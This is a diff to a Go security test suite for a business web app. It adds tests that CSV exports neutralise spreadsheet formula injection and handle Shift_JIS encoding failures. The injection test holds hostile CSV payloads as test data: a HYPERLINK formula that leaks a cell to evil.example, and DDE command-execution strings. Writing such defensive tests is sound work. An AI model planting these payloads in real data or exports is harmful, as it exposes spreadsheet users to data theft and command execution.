@@ -4,6 +4,7 @@ import (
 	"bufio"
 	"bytes"
 	"context"
+	"encoding/csv"
 	"fmt"
 	"io"
 	"mime/multipart"
@@ -20,8 +21,11 @@ import (
 	"testing"
 	"time"
 
+	"golang.org/x/text/encoding/japanese"
+
 	"kessai/internal/app"
 	"kessai/internal/app/apptest"
+	"kessai/internal/commerce"
 	"kessai/internal/platform/auth"
 )
 
@@ -67,6 +71,8 @@ func TestSecurity(t *testing.T) {
 			{"headers and cookies", secHeaders},
 			{"API keys die with their owner", secKeyOwner},
 			{"one permission per operation", secSamePermission},
+			{"CSV formula injection", secFormulaInjection},
+			{"one unencodable record does not block an export", secUnencodable},
 			{"secure cookies behind https", secSecureCookies},
 		} {
 			t.Run(tt.name, func(t *testing.T) {
@@ -643,4 +649,130 @@ func secSamePermission(t *testing.T, c *secCounts) {
 	staffC := inst.Client(t, auth.RoleStaff)
 	res = staffC.PostForm("/settings/shops", url.Values{"code": {"s2"}, "name": {"x"}})
 	c.expect(t, "staff creates a shop on the page", res.Status, res.Body, http.StatusForbidden)
+}
+
+// csvCells splits a UTF-8 CSV (BOM, CRLF, quoted cells) into its cells.
+func csvCells(t *testing.T, body string) [][]string {
+	t.Helper()
+	r := csv.NewReader(strings.NewReader(strings.TrimPrefix(body, "\uFEFF")))
+	r.FieldsPerRecord = -1
+	rows, err := r.ReadAll()
+	if err != nil {
+		t.Fatalf("export is not CSV: %v: %.200s", err, body)
+	}
+	return rows
+}
+
+func secFormulaInjection(t *testing.T, c *secCounts) {
+	inst := apptest.Start(t, apptest.Options{})
+	staff := inst.APIKey(t, auth.RoleStaff)
+	admin := inst.APIKey(t, auth.RoleAdmin)
+	evil := []string{`=HYPERLINK("http://evil.example/?"&A1,"click")`, `+cmd|' /C calc'!A0`, `@SUM(1+1)*cmd|' /C calc'!A0`, `-2+3+cmd|' /C calc'!A0`}
+	res := inst.API(t, admin, "POST", "/api/v1/shops", map[string]any{"code": "f1", "name": "店"})
+	shop := regexp.MustCompile(`"id":"([^"]+)"`).FindStringSubmatch(res.Body)
+	if shop == nil {
+		t.Fatalf("shop: %s", res.Body)
+	}
+	for _, name := range evil {
+		res := inst.API(t, staff, "POST", "/api/v1/customers", map[string]any{"name": name, "note": name})
+		if res.Status != http.StatusCreated {
+			t.Fatalf("customer %q: %d %s", name, res.Status, res.Body)
+		}
+		id := regexp.MustCompile(`"id":"([^"]+)"`).FindStringSubmatch(res.Body)[1]
+		res = inst.API(t, staff, "POST", "/api/v1/cases", map[string]any{"kind": "ippan", "shop_id": shop[1], "customer_id": id, "purchase_amount": 1000})
+		if res.Status != http.StatusCreated {
+			t.Fatalf("case for %q: %d %s", name, res.Status, res.Body)
+		}
+	}
+	viewer := inst.Client(t, auth.RoleViewer)
+	var exports []string
+	for _, tm := range commerce.CustomerExportTemplates() {
+		exports = append(exports, "/api/v1/customers/export.csv?encoding=utf-8&template="+tm.ID, "/customers.csv?encoding=utf-8&template="+tm.ID)
+	}
+	for _, tm := range commerce.CaseExportTemplates() {
+		exports = append(exports, "/api/v1/cases/export.csv?encoding=utf-8&template="+tm.ID, "/cases.csv?encoding=utf-8&template="+tm.ID)
+	}
+	for _, path := range exports {
+		var res *apptest.Response
+		if strings.HasPrefix(path, "/api/") {
+			res = inst.API(t, staff, "GET", path, nil)
+		} else {
+			res = viewer.Get(path)
+		}
+		if res.Status != http.StatusOK {
+			t.Errorf("%s: %d %.200s", path, res.Status, res.Body)
+			continue
+		}
+		seen := 0
+		for _, row := range csvCells(t, res.Body)[1:] {
+			for _, cell := range row {
+				c.probes.Add(1)
+				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && !regexp.MustCompile(`^[+-]?\d+(\.\d+)?$`).MatchString(cell) {
+					t.Errorf("%s: cell %q would run as a formula", path, cell)
+					continue
+				}
+				for _, e := range evil {
+					if cell == "'"+e {
+						seen++
+						c.refusals.Add(1)
+					}
+				}
+			}
+		}
+		if seen < len(evil) {
+			t.Errorf("%s: %d of the %d formula names exported (neutralised)", path, seen, len(evil))
+		}
+	}
+}
+
+func secUnencodable(t *testing.T, c *secCounts) {
+	inst := apptest.Start(t, apptest.Options{})
+	staff := inst.APIKey(t, auth.RoleStaff)
+	for _, name := range []string{"山田 太郎", "𠮷田 花子", "佐藤 一郎"} {
+		if res := inst.API(t, staff, "POST", "/api/v1/customers", map[string]any{"name": name}); res.Status != http.StatusCreated {
+			t.Fatalf("customer %q: %d %s", name, res.Status, res.Body)
+		}
+	}
+	viewer := inst.Client(t, auth.RoleViewer)
+	// The default Shift_JIS export reports the row and offers the ways out.
+	res := viewer.Get("/customers.csv")
+	c.expect(t, "Shift_JIS export with 𠮷", res.Status, res.Body, http.StatusUnprocessableEntity)
+	links := regexp.MustCompile(`href="(/customers\.csv\?[^"]+)"`).FindAllStringSubmatch(res.Body, -1)
+	if !strings.Contains(res.Body, "𠮷") || !strings.Contains(res.Body, "1行") || len(links) != 2 {
+		t.Fatalf("no per-row report with two ways out: %.600s", res.Body)
+	}
+	for _, l := range links {
+		href := strings.ReplaceAll(l[1], "&amp;", "&")
+		res := viewer.Get(href)
+		c.expect(t, "export from the report: "+href, res.Status, res.Body, http.StatusOK)
+		text := res.Body
+		if strings.Contains(href, "unencodable=replace") {
+			dec, err := japanese.ShiftJIS.NewDecoder().String(res.Body)
+			if err != nil {
+				t.Fatal(err)
+			}
+			text = dec
+		}
+		for _, want := range []string{"山田 太郎", "佐藤 一郎"} {
+			if !strings.Contains(text, want) {
+				t.Errorf("%s: %q missing: every other record must be exported", href, want)
+			}
+		}
+		if strings.Contains(href, "unencodable=replace") && !strings.Contains(text, "〓田 花子") {
+			t.Errorf("Shift_JIS with replacement: no 〓田 花子")
+		}
+		if strings.Contains(href, "utf-8") && !strings.Contains(text, "𠮷田 花子") {
+			t.Errorf("UTF-8: no 𠮷田 花子")
+		}
+	}
+	// The API says the same and takes the same two ways.
+	res = inst.API(t, staff, "GET", "/api/v1/customers/export.csv", nil)
+	c.expect(t, "API Shift_JIS export with 𠮷", res.Status, res.Body, http.StatusUnprocessableEntity)
+	if !strings.Contains(res.Body, "unencodable=replace") || !strings.Contains(res.Body, "rows.") {
+		t.Errorf("API refusal names neither the rows nor the way out: %s", res.Body)
+	}
+	res = inst.API(t, staff, "GET", "/api/v1/customers/export.csv?unencodable=replace", nil)
+	c.expect(t, "API Shift_JIS export with replacement", res.Status, res.Body, http.StatusOK)
+	res = inst.API(t, staff, "GET", "/api/v1/customers/export.csv?encoding=utf-8", nil)
+	c.expect(t, "API UTF-8 export", res.Status, res.Body, http.StatusOK)
 }
